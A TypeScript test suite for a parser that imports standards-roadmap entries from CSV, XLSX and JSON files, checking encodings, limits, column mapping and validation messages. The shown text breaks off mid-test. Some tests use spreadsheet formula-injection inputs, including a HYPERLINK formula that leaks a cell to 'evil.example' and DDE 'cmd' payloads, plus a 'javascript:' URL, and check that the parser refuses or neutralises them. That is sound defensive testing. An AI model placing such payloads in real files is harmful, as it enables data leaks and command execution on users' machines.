import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import {
  type ImportFile,
  type ImportOptions,
  type ImportParseResult,
  type ImportRow,
  detectImportFormat,
  looksLikeFormula,
  neutraliseFormula,
  parseImportFile,
} from './import-files.ts';

const fixture = (name: string) => readFileSync(new URL(`../../../test/fixtures/roadmap/${name}`, import.meta.url));
const sharedData = (name: string) => readFileSync(new URL(`../../../../shared/data/${name}`, import.meta.url));

function parse(content: string | Uint8Array, file: Partial<ImportFile> = {}, options: Partial<ImportOptions> = {}) {
  const bytes = typeof content === 'string' ? Buffer.from(content) : content;
  return parseImportFile({ fileName: 'roadmap.csv', ...file, bytes }, { locale: 'en', ...options });
}

/** A CSV with the data files' header and the given lines below it. */
const csv = (...lines: string[]) => ['org,identifier,title,status,year,topic,url,source', ...lines].join('\n');
const row = (fields: Partial<Record<'org' | 'identifier' | 'title' | 'status' | 'year' | 'topic' | 'url' | 'source', string>>) =>
  [
    fields.org ?? 'ITU-T',
    fields.identifier ?? 'Y.3800',
    fields.title ?? 'Overview on networks supporting quantum key distribution',
    fields.status ?? 'published',
    fields.year ?? '2019',
    fields.topic ?? 'QKDN overview',
    fields.url ?? 'https://www.itu.int/rec/T-REC-Y.3800',
    fields.source ?? '',
  ]
    .map((v) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v))
    .join(',');

/** The only error of a result that has one, and no rows. */
function onlyError(result: ImportParseResult) {
  assert.equal(result.errors.length, 1, JSON.stringify(result.errors));
  assert.deepEqual(result.rows, []);
  return result.errors[0];
}

const emptyRow: Omit<ImportRow, 'line' | 'organization' | 'identifier' | 'title'> = {
  group: null,
  equivalents: [],
  kind: null,
  status: null,
  started: null,
  target: null,
  approved: null,
  year: null,
  version: null,
  editors: null,
  scope: null,
  topics: [],
  url: null,
  source: null,
};

describe('roadmap import files: the shared data', () => {
  it('reads roadmap-qkd.csv: 70 rows, no error, the columns named as the file names them', async () => {
    const result = await parse(sharedData('roadmap-qkd.csv'), { fileName: 'roadmap-qkd.csv', contentType: 'text/csv' });
    assert.deepEqual(result.errors, []);
    assert.equal(result.format, 'csv');
    assert.equal(result.rows.length, 70);
    assert.deepEqual(result.columns, [
      { header: 'org', field: 'organization' },
      { header: 'identifier', field: 'identifier' },
      { header: 'title', field: 'title' },
      { header: 'status', field: 'status' },
      { header: 'year', field: 'year' },
      { header: 'topic', field: 'topics' },
      { header: 'url', field: 'url' },
      { header: 'source', field: 'source' },
    ]);
    assert.deepEqual(result.rows[0], {
      ...emptyRow,
      line: 2,
      organization: 'ITU-T',
      identifier: 'Y.3800',
      title: 'Overview on networks supporting quantum key distribution',
      status: 'published',
      year: 2019,
      topics: ['QKDN overview'],
      url: 'https://www.itu.int/rec/T-REC-Y.3800',
      source: 'https://datatracker.ietf.org/liaison/1880/ ; https://friendlywiki.com/article/index.php?title=Y.3800',
    });
    assert.equal(result.rows.at(-1)?.line, 71);
  });

  it('reads roadmap-metaverse.csv: 84 rows, no error, a quoted title with commas kept whole', async () => {
    const result = await parse(sharedData('roadmap-metaverse.csv'), { fileName: 'roadmap-metaverse.csv' });
    assert.deepEqual(result.errors, []);
    assert.equal(result.rows.length, 84);
    assert.equal(
      result.rows[3]?.title,
      'Service configuration, media transport protocols, signalling information of MMT for immersive live experience (ILE) systems',
    );
  });
});

describe('roadmap import files: CSV', () => {
  it('reads every field: BOM, CRLF, quotes, a comma and a line break inside a value, synonyms and accents in headers', async () => {
    const result = await parse(fixture('all-fields.csv'), { fileName: 'all-fields.csv' });
    assert.deepEqual(result.errors, []);
    assert.deepEqual(
      result.columns.map((c) => `${c.header}→${c.field}`),
      [
        'Organisation→organization', 'Group→group', 'Identifier→identifier', 'Title→title', 'Type→kind',
        'Status→status', 'Start date→started', 'Target→target', 'Published→approved', 'Année→year',
        'Edition→version', 'Editors→editors', 'Scope→scope', 'Topics→topics', 'Link→url', 'Source→source',
      ],
    );
    assert.deepEqual(result.rows, [
      {
        line: 2,
        organization: 'ITU-T',
        group: 'SG13 Q16',
        identifier: 'ITU-T Y.3800',
        title: 'Overview on networks supporting quantum key distribution',
        equivalents: [],
        kind: 'recommendation',
        status: 'published',
        started: '2018-03-01',
        target: '2019-12-01',
        approved: '2019-10-29',
        year: 2019,
        version: '1.0',
        editors: 'A. Editor; B. Éditeur',
        scope: 'Gives an overview of QKD networks,\nwith a second line',
        topics: ['QKDN overview', 'architecture'],
        url: 'https://www.itu.int/rec/T-REC-Y.3800',
        source: 'The "Y.3800" page',
      },
      {
        ...emptyRow,
        line: 4, // line 3 is blank: skipped, but counted as a spreadsheet counts it
        organization: 'ETSI',
        group: 'ISG QKD',
        identifier: 'GS QKD 014',
        title: 'Protocol and data format of REST-based key delivery API',
        kind: 'technical_specification',
        status: 'in_development',
        topics: ['key management'],
        url: 'https://www.etsi.org/',
      },
    ]);
  });

  it('reads semicolon-separated files (French Excel) and honours a "sep=" first line', async () => {
    const semicolons = await parse('organisation;identifiant;titre;statut\nETSI;GS QKD 002;Cas d’usage, réseaux;publié\n');
    assert.deepEqual(semicolons.errors, []);
    assert.deepEqual(
      semicolons.rows.map((r) => [r.organization, r.identifier, r.title, r.status]),
      [['ETSI', 'GS QKD 002', 'Cas d’usage, réseaux', 'published']],
    );
    const hinted = await parse('sep=|\norg|identifier|title\nIETF|RFC 9340|Architectural Principles for a Quantum Internet\n');
    assert.deepEqual(hinted.errors, []);
    assert.equal(hinted.rows[0]?.line, 3);
    assert.equal(hinted.rows[0]?.identifier, 'RFC 9340');
  });

  it('refuses a quote that is never closed, naming its line', async () => {
    const result = await parse(csv(row({}), 'ETSI,GS QKD 014,"Protocol and data format,published,2019,,,'));
    assert.deepEqual(onlyError(result), {
      line: 3,
      message: 'On line 3, a value opens with a double quote (") that is never closed. Close the quote, or remove it.',
    });
  });

  it('refuses a line with more values than columns: a comma outside quotes', async () => {
    const result = await parse(csv(row({}), 'ETSI,GS QKD 014,Protocol, data format,published,2019,key management,https://www.etsi.org/,knowledge'));
    assert.deepEqual(result.errors, [
      { line: 3, message: 'This line has 9 values but the header has 8 columns. A value that contains “,” must be put in double quotes.' },
      {
        line: 3,
        column: 'status',
        message: '“data format” is not a status. Use one of: planned, in development, approved, published, superseded, withdrawn.',
      },
      { line: 3, column: 'year', message: '“published” is not a year between 1900 and 2100.' },
      {
        line: 3,
        column: 'url',
        message: '“key management” is not a web address. Write the full address, starting with https:// or http://.',
      },
    ]);
    assert.equal(result.rows.length, 1);
  });
});

describe('roadmap import files: refusals of the whole file', () => {
  it('refuses a 200 MB file at once, naming the limit, before reading it', async () => {
    const huge = Buffer.alloc(200 * 1024 * 1024, 0x61);
    const started = process.hrtime.bigint();
    const result = await parse(huge);
    assert.ok(process.hrtime.bigint() - started < 1_000_000_000n, 'a refusal by size reads nothing');
    assert.deepEqual(result, {
      rows: [],
      errors: [{ line: 0, message: 'The file is 200 MB; the limit is 20 MB. Split it into smaller files and import them one after the other.' }],
      format: null,
      columns: [],
    });
  });

  it('takes its size limit from the options, and says it in French', async () => {
    const result = await parse(Buffer.alloc(1.5 * 1024 * 1024, 0x61), {}, { maxBytes: 1024 * 1024, locale: 'fr' });
    assert.equal(
      onlyError(result)?.message,
      'Le fichier fait 1,5 Mo ; la limite est de 1 Mo. Découpez-le en fichiers plus petits et importez-les l’un après l’autre.',
    );
  });

  it('refuses an empty file', async () => {
    assert.deepEqual(onlyError(await parse('')), { line: 0, message: 'The file is empty.' });
  });

  it('refuses a Windows-1252 file, naming the first line that is not UTF-8 and how to save it', async () => {
    const result = await parse(fixture('windows-1252.csv'), { fileName: 'windows-1252.csv' });
    assert.deepEqual(onlyError(result), {
      line: 3,
      message:
        'The file is not in UTF-8: line 3 (near “ETSI,GS QKD 002,Réseaux de distribution”) holds a character written in another encoding, such as Windows-1252 or Latin-1. In your spreadsheet, choose “Save as” and the type “CSV UTF-8 (comma delimited)”, then import that file.',
    });
    assert.equal(result.format, 'csv');
  });

  it('refuses UTF-16, with or without its byte-order mark', async () => {
    const text = csv(row({}));
    const message =
      'The file is in UTF-16 (“Unicode text”), not UTF-8. In your spreadsheet, choose “Save as” and the type “CSV UTF-8 (comma delimited)”, then import that file.';
    const withBom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    assert.equal(onlyError(await parse(withBom))?.message, message);
    assert.equal(onlyError(await parse(Buffer.from(text, 'utf16le')))?.message, message);
  });

  it('refuses a NUL byte, naming its line', async () => {
    assert.deepEqual(onlyError(await parse(csv(row({}), row({ identifier: 'Y.3801', title: 'Functional\u0000 requirements' })))), {
      line: 3,
      message:
        'Line 3 holds an invisible NUL character, which a text file should not contain. Remove it, or export the file again as CSV UTF-8.',
    });
  });

  it('tells formats apart by content, and reports a name or a declared type that says otherwise', async () => {
    assert.equal(detectImportFormat(Buffer.from('PK\u0003\u0004rest')), 'xlsx');
    assert.equal(detectImportFormat(Buffer.from('\uFEFF \r\n [{"a": 1}]')), 'json');
    assert.equal(detectImportFormat(Buffer.from('{"a": 1}')), 'json');
    assert.equal(detectImportFormat(Buffer.from('org,identifier')), 'csv');
    assert.equal(detectImportFormat(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0])), 'xls');

    const json = '[{"org": "ITU-T", "identifier": "Y.3800", "title": "Overview"}]';
    assert.deepEqual(onlyError(await parse(json, { fileName: 'roadmap.csv' })), {
      line: 0,
      message:
        'The file is named “roadmap.csv”, which says CSV, but it holds JSON. Check that you chose the right file, or give it the right extension.',
    });
    assert.equal(
      onlyError(await parse(csv(row({})), { fileName: 'roadmap.xlsx' }))?.message,
      'The file is named “roadmap.xlsx”, which says an Excel workbook (XLSX), but it holds CSV. Check that you chose the right file, or give it the right extension.',
    );
    assert.equal(
      onlyError(await parse(json, { fileName: 'upload', contentType: 'text/csv; charset=utf-8' }))?.message,
      'The file was sent as “text/csv; charset=utf-8”, which says CSV, but it holds JSON.',
    );
    // Names and types that say nothing precise are not held against the content.
    assert.deepEqual((await parse(csv(row({})), { fileName: 'roadmap.txt', contentType: 'application/vnd.ms-excel' })).errors, []);
    assert.deepEqual((await parse(json, { fileName: undefined, contentType: 'application/octet-stream' })).errors, []);
  });

  it('refuses an Excel 97–2003 file or a workbook protected by a password', async () => {
    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
    assert.equal(
      onlyError(await parse(ole, { fileName: 'roadmap.xls' }))?.message,
      'This is an Excel 97–2003 file (.xls) or a workbook protected by a password, which cannot be read. Open it in your spreadsheet and save it as “Excel Workbook (.xlsx)” without a password, or as “CSV UTF-8”.',
    );
  });

  it('refuses a file without a header, or without rows', async () => {
    assert.equal(
      onlyError(await parse('\n \n'))?.message,
      'The file has no header line. The first line must name the columns, such as: organization, identifier, title.',
    );
    assert.equal(onlyError(await parse(csv()))?.message, 'The file has a header line but no entries below it.');
  });

  it('refuses a file with more rows than allowed', async () => {
    const result = await parse(csv(row({}), row({ identifier: 'Y.3801' }), row({ identifier: 'Y.3802' })), {}, { maxRows: 2 });
    assert.deepEqual(onlyError(result), { line: 0, message: 'The file has more than 2 entries. Split it into smaller files.' });
  });
});

describe('roadmap import files: columns', () => {
  it('names a missing required column, its other accepted names and the columns found', async () => {
    const result = await parse('Org,Title,Status\nITU-T,Overview,published\n');
    assert.deepEqual(result.errors, [
      {
        line: 1,
        message: 'The required column “identifier” is missing (also accepted: number, reference). Columns found: Org, Title, Status.',
      },
    ]);
    assert.deepEqual(result.rows, []);
  });

  it('says it in French too', async () => {
    const result = await parse('identifier,title\nY.3800,Overview\n', {}, { locale: 'fr' });
    assert.equal(
      onlyError(result)?.message,
      'La colonne obligatoire « organization » manque (noms acceptés aussi : org, organisation). Colonnes trouvées : identifier, title.',
    );
  });

  it('refuses two columns for one field, unless the mapping chooses one', async () => {
    const content = 'org,identifier,title,topic,Topics\nITU-T,Y.3800,Overview,a,b\n';
    assert.equal(
      onlyError(await parse(content))?.message,
      'The columns “topic” and “Topics” both give the topics. Keep one of them, or choose in the column mapping which one to use.',
    );
    const chosen = await parse(content, {}, { mapping: { Topics: 'topics' } });
    assert.deepEqual(chosen.errors, []);
    assert.deepEqual(chosen.rows[0]?.topics, ['b']);
    assert.deepEqual(chosen.columns.slice(3), [
      { header: 'topic', field: null },
      { header: 'Topics', field: 'topics' },
    ]);
  });

  it('follows an explicit mapping of column headers to fields, ignoring columns mapped to null', async () => {
    const content = 'Body,Doc no.,Name of the standard,Published on,Remarks,Status\nITU-T,Y.3800,Overview,2019-10,check,withdrawn\n';
    const result = await parse(
      content,
      {},
      { mapping: { 'Doc no.': 'identifier', 'name of the standard': 'title', 'Published on': 'approved', Status: null } },
    );
    assert.deepEqual(result.errors, []);
    assert.deepEqual(result.columns, [
      { header: 'Body', field: 'organization' },
      { header: 'Doc no.', field: 'identifier' },
      { header: 'Name of the standard', field: 'title' },
      { header: 'Published on', field: 'approved' },
      { header: 'Remarks', field: null },
      { header: 'Status', field: null },
    ]);
    assert.deepEqual(result.rows, [
      { ...emptyRow, line: 2, organization: 'ITU-T', identifier: 'Y.3800', title: 'Overview', approved: '2019-10-01' },
    ]);
  });

  it('refuses a mapping that names a column the file lacks, or a field that does not exist', async () => {
    const result = await parse(csv(row({})), {}, { mapping: { Reference: 'identifier', url: 'link' } });
    assert.deepEqual(result.errors, [
      {
        line: 1,
        message:
          'The column mapping names a column “Reference” that the file does not have. Columns found: org, identifier, title, status, year, topic, url, source.',
      },
      {
        line: 1,
        message:
          'The column mapping names a field “link” that does not exist. Fields: organization, group, identifier, title, equivalents, kind, status, started, target, approved, year, version, editors, scope, topics, url, source.',
      },
    ]);
  });
});

describe('roadmap import files: rows', () => {
  it('reports a missing value with its line and column, and keeps the good rows', async () => {
    const result = await parse(csv(row({}), row({ identifier: '', title: 'Untitled' }), '', row({ identifier: 'Y.3801', title: ' ' })));
    assert.deepEqual(result.errors, [
      { line: 3, column: 'identifier', message: 'This value is required.' },
      { line: 5, column: 'title', message: 'This value is required.' },
    ]);
    assert.deepEqual(result.rows.map((r) => r.line), [2]);
  });

  it('accepts the six statuses however they are written, and lists them when one is not', async () => {
    const statuses = ['planned', 'In Development', 'in-development', 'in_development', 'APPROVED', 'Published', 'superseded', 'withdrawn', 'publié', ''];
    const result = await parse(csv(...statuses.map((status, i) => row({ identifier: `Y.${3800 + i}`, status }))));
    assert.deepEqual(result.errors, []);
    assert.deepEqual(
      result.rows.map((r) => r.status),
      ['planned', 'in_development', 'in_development', 'in_development', 'approved', 'published', 'superseded', 'withdrawn', 'published', null],
    );
    const bad = await parse(csv(row({ status: 'finished' })));
    assert.deepEqual(onlyError(bad), {
      line: 2,
      column: 'status',
      message: '“finished” is not a status. Use one of: planned, in development, approved, published, superseded, withdrawn.',
    });
    const french = await parse(csv(row({ status: 'fini' })), {}, { locale: 'fr' });
    assert.equal(
      onlyError(french)?.message,
      '« fini » n’est pas un statut. Valeurs acceptées : prévu, en développement, approuvé, publié, remplacé, retiré (ou en anglais : planned, in development, approved, published, superseded, withdrawn).',
    );
  });

  it('accepts the kinds of document and their usual names, and lists them when one is not', async () => {
    const kinds: [string, string][] = [
      ['Recommendation', 'recommendation'],
      ['Rec.', 'recommendation'],
      ['International Standard', 'international_standard'],
      ['IS', 'international_standard'],
      ['Technical Specification', 'technical_specification'],
      ['TS', 'technical_specification'],
      ['Technical Report', 'technical_report'],
      ['Supplement', 'supplement'],
      ['RFC', 'rfc'],
      ['Internet-Draft', 'internet_draft'],
      ['I-D', 'internet_draft'],
      ['work item', 'work_item'],
      ['Work_Item', 'work_item'],
      ['other', 'other'],
      ['Spécification technique', 'technical_specification'],
    ];
    const content = ['org,identifier,title,kind', ...kinds.map(([kind], i) => `ITU-T,Y.${i},Title,${kind}`)].join('\n');
    const result = await parse(content);
    assert.deepEqual(result.errors, []);
    assert.deepEqual(result.rows.map((r) => r.kind), kinds.map(([, code]) => code));
    assert.deepEqual(onlyError(await parse('org,identifier,title,kind\nITU-T,Y.1,Title,Handbook\n')), {
      line: 2,
      column: 'kind',
      message:
        '“Handbook” is not a kind of document. Use one of: Recommendation, International Standard, Technical Specification, Technical Report, Supplement, RFC, Internet-Draft, work item, other.',
    });
  });

  it('accepts dates as YYYY-MM-DD, YYYY-MM or a timestamp, and refuses anything else', async () => {
    const content = [
      'org,identifier,title,started,target,approved',
      'ITU-T,Y.1,T,2020-02-29,2021-06,2022-03-04T10:00:00Z',
      'ITU-T,Y.2,T,03/02/2020,2023-02-30,2019',
      'ITU-T,Y.3,T,1850-01-01,,2024-13',
    ].join('\n');
    const result = await parse(content);
    assert.deepEqual(
      result.rows.map((r) => [r.started, r.target, r.approved]),
      [['2020-02-29', '2021-06-01', '2022-03-04']],
    );
    const hint = 'Write it as YYYY-MM-DD (2024-03-31) or YYYY-MM (2024-03).';
    assert.deepEqual(result.errors, [
      { line: 3, column: 'started', message: `“03/02/2020” is not a date. ${hint}` },
      { line: 3, column: 'target', message: `“2023-02-30” is not a date. ${hint}` },
      { line: 3, column: 'approved', message: `“2019” is not a date. ${hint}` },
      { line: 4, column: 'started', message: 'The date 1850-01-01 is not between 1900 and 2100.' },
      { line: 4, column: 'approved', message: `“2024-13” is not a date. ${hint}` },
    ]);
  });

  it('refuses a year outside 1900–2100 or that is not a year', async () => {
    const result = await parse(csv(row({ year: '1899' }), row({ identifier: 'Y.2', year: '2101' }), row({ identifier: 'Y.3', year: '2019-2020' }), row({ identifier: 'Y.4', year: '1900' })));
    assert.deepEqual(result.errors, [
      { line: 2, column: 'year', message: '“1899” is not a year between 1900 and 2100.' },
      { line: 3, column: 'year', message: '“2101” is not a year between 1900 and 2100.' },
      { line: 4, column: 'year', message: '“2019-2020” is not a year between 1900 and 2100.' },
    ]);
    assert.deepEqual(result.rows.map((r) => r.year), [1900]);
  });

  it('refuses a web address that is not http or https', async () => {
    const urls = ['ftp://ftp.itu.int/y3800.pdf', 'javascript:alert(1)', 'www.itu.int/rec/T-REC-Y.3800', 'http://www.itu.int/x'];
    const result = await parse(csv(...urls.map((url, i) => row({ identifier: `Y.${i}`, url }))));
    const after = 'is not a web address. Write the full address, starting with https:// or http://.';
    assert.deepEqual(result.errors, [
      { line: 2, column: 'url', message: `“ftp://ftp.itu.int/y3800.pdf” ${after}` },
      { line: 3, column: 'url', message: `“javascript:alert(1)” ${after}` },
      { line: 4, column: 'url', message: `“www.itu.int/rec/T-REC-Y.3800” ${after}` },
    ]);
    assert.deepEqual(result.rows.map((r) => r.url), ['http://www.itu.int/x']);
  });

  it('refuses an over-long value, naming the limit', async () => {
    const result = await parse(csv(row({ title: 'x'.repeat(1001) }), row({ identifier: 'Y.2', title: 'x'.repeat(1000) }), row({ identifier: 'Y.3', topic: `a;${'t'.repeat(101)}` })));
    assert.deepEqual(result.errors, [
      { line: 2, column: 'title', message: 'This value has 1001 characters; the limit is 1000. Shorten it.' },
      {
        line: 4,
        column: 'topic',
        message: `The topic “${'t'.repeat(39)}…” is longer than 100 characters. Separate several topics with “;”.`,
      },
    ]);
    assert.equal(result.rows.length, 1);
  });

  it('refuses cells that would run as spreadsheet formulas, and keeps numbers, dashes and phone numbers', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '-2+3+cmd|\' /C notepad\'!A0',
      '-A1+B2',
      '\t=1+1',
    ];
    const result = await parse(csv(...formulas.map((title, i) => row({ identifier: `Y.${i}`, title }))));
    const excerpts = [
      '=HYPERLINK("http://evil.example/?leak="…',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C notepad'!A0",
      '-A1+B2',
      '=1+1',
    ];
    assert.deepEqual(
      result.errors,
      excerpts.map((excerpt, i) => ({
        line: i + 2,
        column: 'title',
        message: `“${excerpt}” starts like a spreadsheet formula, which could run when the file is opened in a spreadsheet. Remove the leading sign, or reword the value.`,
      })),
    );

    const harmless = ['-', '-1', '+41 22 730 51 11', '@alice', '- draft text', '+5G networks', '-Y.3800'];
    const kept = await parse(csv(...harmless.map((title, i) => row({ identifier: `Y.${i}`, title }))));
    assert.deepEqual(kept.errors, []);
    assert.deepEqual(kept.rows.map((r) => r.title), harmless);
    for (const identifier of ['-1', '-', '+12']) assert.equal(looksLikeFormula(identifier), false, identifier);
  });

  it('reports a repeated entry on its second line, naming the first, however the identifier is written', async () => {
    const result = await parse(csv(row({}), row({ identifier: 'Y.3801' }), row({ org: 'itu-t', identifier: 'Rec. ITU-T Y.3800' }), row({ org: 'ETSI' })));
    assert.deepEqual(result.errors, [
      { line: 4, column: 'identifier', message: 'This entry repeats line 2 (itu-t Rec. ITU-T Y.3800). Keep one of the two lines.' },
    ]);
    assert.deepEqual(result.rows.map((r) => r.line), [2, 3, 5]);
  });

  it('lists the first errors and counts the rest', async () => {
    const result = await parse(csv(...[1, 2, 3, 4, 5].map((i) => row({ identifier: `Y.${i}`, status: 'done' }))), {}, { maxErrors: 2 });
    assert.deepEqual(result.errors.map((e) => e.line), [2, 3, 0]);
    assert.equal(result.errors[2]?.message, '…and 3 more errors not listed. Correct the ones above and try again.');
  });
});

describe('roadmap import files: XLSX', () => {
  async function workbook(build: (book: ExcelJS.Workbook) => void): Promise<Buffer> {
    const book = new ExcelJS.Workbook();
    build(book);
    return Buffer.from(await book.xlsx.writeBuffer());
  }

  it('reads back the first sheet of a workbook written by the same library: text, numbers, dates, rich text, links', async () => {
    const bytes = await workbook((book) => {
      const sheet = book.addWorksheet('Roadmap');
      sheet.addRow(['Organization', 'Identifier', 'Title', 'Status', 'Year', 'Approved', 'Topics', 'URL']);
      sheet.addRow(['ITU-T', 'Y.3800', 'Overview on networks supporting QKD', 'published', 2019, new Date(Date.UTC(2019, 9, 29)), 'QKDN overview\narchitecture', 'https://www.itu.int/rec/T-REC-Y.3800']);
      sheet.addRow([]);
      sheet.addRow([
        'IETF',
        9340,
        { richText: [{ text: 'Architectural Principles ' }, { text: 'for a Quantum Internet', font: { bold: true } }] },
        'Published',
        2023,
        null,
        null,
        { text: 'https://www.rfc-editor.org/rfc/rfc9340', hyperlink: 'https://www.rfc-editor.org/rfc/rfc9340' },
      ]);
      book.addWorksheet('Notes').addRow(['not', 'read']);
    });
    const result = await parse(bytes, {
      fileName: 'roadmap.xlsx',
      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    });
    assert.deepEqual(result.errors, []);
    assert.equal(result.format, 'xlsx');
    assert.deepEqual(result.rows, [
      {
        ...emptyRow,
        line: 2,
        organization: 'ITU-T',
        identifier: 'Y.3800',
        title: 'Overview on networks supporting QKD',
        status: 'published',
        year: 2019,
        approved: '2019-10-29',
        topics: ['QKDN overview', 'architecture'],
        url: 'https://www.itu.int/rec/T-REC-Y.3800',
      },
      {
        ...emptyRow,
        line: 4,
        organization: 'IETF',
        identifier: '9340',
        title: 'Architectural Principles for a Quantum Internet',
        status: 'published',
        year: 2023,
        url: 'https://www.rfc-editor.org/rfc/rfc9340',
      },
    ]);
  });

  it('refuses formula cells and error cells', async () => {
    const bytes = await workbook((book) => {
      const sheet = book.addWorksheet('Roadmap');
      sheet.addRow(['org', 'identifier', 'title', 'year']);
      sheet.addRow(['ITU-T', 'Y.3800', { formula: 'HYPERLINK("http://evil.example","Overview")', result: 'Overview' }, 2019]);
      sheet.addRow(['ITU-T', 'Y.3801', 'Functional requirements', { error: '#N/A' }]);
    });
    const result = await parse(bytes, { fileName: 'roadmap.xlsx' });
    assert.deepEqual(result.errors, [
      {
        line: 2,
        column: 'title',
        message:
          'This cell holds a formula (=HYPERLINK("http://evil.example","Overv…). Formulas are refused because they can run when the file is opened again: type the value itself.',
      },
      { line: 3, column: 'year', message: 'This cell holds a spreadsheet error (#N/A). Type the value itself.' },
    ]);
  });

  it('reads the first tab, even when another sheet comes first in the file', async () => {
    const written = await workbook((book) => {
      book.addWorksheet('Notes').addRow(['org', 'identifier', 'title']).commit();
      book.getWorksheet('Notes')?.addRow(['W3C', 'notes-1', 'Not from this sheet']);
      const sheet = book.addWorksheet('Roadmap');
      sheet.addRow(['org', 'identifier', 'title']);
      sheet.addRow(['ITU-T', 'Y.3800', 'Overview']);
    });
    // Move the Roadmap tab first in the workbook's list; the ZIP still holds the Notes sheet first.
    const zip = await JSZip.loadAsync(written);
    const workbookXml = await zip.file('xl/workbook.xml')!.async('string');
    const tabs = /<sheets>(<sheet [^>]*\/>)(<sheet [^>]*\/>)<\/sheets>/.exec(workbookXml);
    assert.ok(tabs?.[1] && tabs[2]?.includes('name="Roadmap"'));
    zip.file('xl/workbook.xml', workbookXml.replace(tabs[0], `<sheets>${tabs[2]}${tabs[1]}</sheets>`));
    const bytes = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    const result = await parse(bytes, { fileName: 'roadmap.xlsx' });
    assert.deepEqual(result.errors, []);
    assert.deepEqual(result.rows.map((r) => r.identifier), ['Y.3800']);
  });

  it('refuses a damaged workbook, and a ZIP that is not one', async () => {
    const bytes = await workbook((book) => book.addWorksheet('Roadmap').addRow(['org', 'identifier', 'title']));
    const message =
      'This Excel file cannot be read: it may be damaged, or not a workbook. Open it in your spreadsheet and save it again as “Excel Workbook (.xlsx)”.';
    assert.equal(onlyError(await parse(bytes.subarray(0, bytes.length / 2), { fileName: 'roadmap.xlsx' }))?.message, message);
    const notWorkbook = Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(100, 1)]);
    assert.equal(onlyError(await parse(notWorkbook, { fileName: 'roadmap.xlsx' }))?.message, message);
  });
});

describe('roadmap import files: JSON', () => {
  it('reads an array of objects, with lists for topics and editors, and names each object by the line it opens on', async () => {
    const entries = [
      { organization: 'ITU-T', identifier: 'Y.3800', title: 'Overview', status: 'published', year: 2019, topics: ['QKDN overview', 'architecture'], editors: ['A. Editor', 'B. Editor'] },
      { organization: 'ETSI', identifier: 'GS QKD 014', title: 'REST-based key delivery API', status: 'approve', year: null, group: 'ISG QKD' },
      'not an object',
      { organization: 'IETF', identifier: { number: 9340 }, title: 'Architectural Principles for a Quantum Internet' },
    ];
    const result = await parse(JSON.stringify(entries, null, 2), { fileName: 'roadmap.json', contentType: 'application/json' });
    assert.equal(result.format, 'json');
    assert.deepEqual(result.columns.map((c) => c.header), ['organization', 'identifier', 'title', 'status', 'year', 'topics', 'editors', 'group']);
    assert.deepEqual(result.rows, [
      {
        ...emptyRow,
        line: 2,
        organization: 'ITU-T',
        identifier: 'Y.3800',
        title: 'Overview',
        status: 'published',
        year: 2019,
        topics: ['QKDN overview', 'architecture'],
        editors: 'A. Editor; B. Editor',
      },
    ]);
    assert.deepEqual(result.errors, [
      {
        line: 17,
        column: 'status',
        message: '“approve” is not a status. Use one of: planned, in development, approved, published, superseded, withdrawn.',
      },
      { line: 25, message: 'This item is not an object with fields: each item of the list must look like {"identifier": "…", …}.' },
      { line: 26, column: 'identifier', message: 'This value is a list or an object; give text or a number.' },
    ]);
  });

  it('refuses JSON that does not parse, naming the line, and JSON that is not a list of objects', async () => {
    assert.deepEqual(onlyError(await parse('[\n  {"org": "ITU-T"},\n  {"org": }\n]', { fileName: 'roadmap.json' })), {
      line: 3,
      message: 'The file is not valid JSON: the first mistake is on line 3.',
    });
    const notList =
      'A JSON file must hold a list of objects, such as [{"organization": "ITU-T", "identifier": "Y.3800", "title": "…"}].';
    assert.equal(onlyError(await parse('{"entries": []}', { fileName: 'roadmap.json' }))?.message, notList);
    assert.equal(onlyError(await parse('[1, 2]', { fileName: 'roadmap.json' }))?.message, notList);
    assert.equal(onlyError(await parse('[]', { fileName: 'roadmap.json' }))?.message, 'The list in this JSON file is empty.');
  });
});

describe('neutraliseFormula', () => {
  it('prefixes an apostrophe to cells starting with = + - @ tab or carriage return, and leaves the rest', () => {
    assert.equal(neutraliseFormula('=HYPERLINK("http://evil.example","x")'), `'=HYPERLINK("http://evil.example","x")`);
    assert.equal(neutraliseFormula('+cmd|x!A0'), "'+cmd|x!A0");
    assert.equal(neutraliseFormula('-1'), "'-1");
    assert.equal(neutraliseFormula('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(neutraliseFormula('\t=1'), "'\t=1");
    assert.equal(neutraliseFormula('\r=1'), "'\r=1");
    assert.equal(neutraliseFormula('Y.3800'), 'Y.3800');
    assert.equal(neutraliseFormula(' =1'), ' =1');
    assert.equal(neutraliseFormula(''), '');
  });
});

describe('cells marked as text', () => {
  it('reads back what the export neutralised as the original text, while an unmarked formula is still refused', async () => {
    const result = await parse(
      `organization,identifier,title,editors\nETSI,GR QKD 099,"'=HYPERLINK(""http://evil"")",'@alice\n`,
    );
    assert.deepEqual(result.errors, []);
    assert.equal(result.rows[0]?.title, '=HYPERLINK("http://evil")');
    assert.equal(result.rows[0]?.editors, '@alice');
    assert.match(onlyError(await parse('organization,identifier,title\nETSI,GR QKD 099,=HYPERLINK("x")\n'))?.message ?? '', /formula/);
  });
});

describe('roadmap import files: equivalent numbers', () => {
  it('reads them in CSV, XLSX and JSON under English or French headers, split on “|” or “;”, each number once', async () => {
    const csvFile = 'Organisme,Identifiant,Titre,Numéros équivalents\nITU-T,X.509,Public-key frameworks,ISO/IEC 9594-8 | EN ISO/IEC 9594-8; iso/iec 9594-8\n';
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Roadmap');
    sheet.addRow(['Organization', 'Identifier', 'Title', 'Equivalent numbers']);
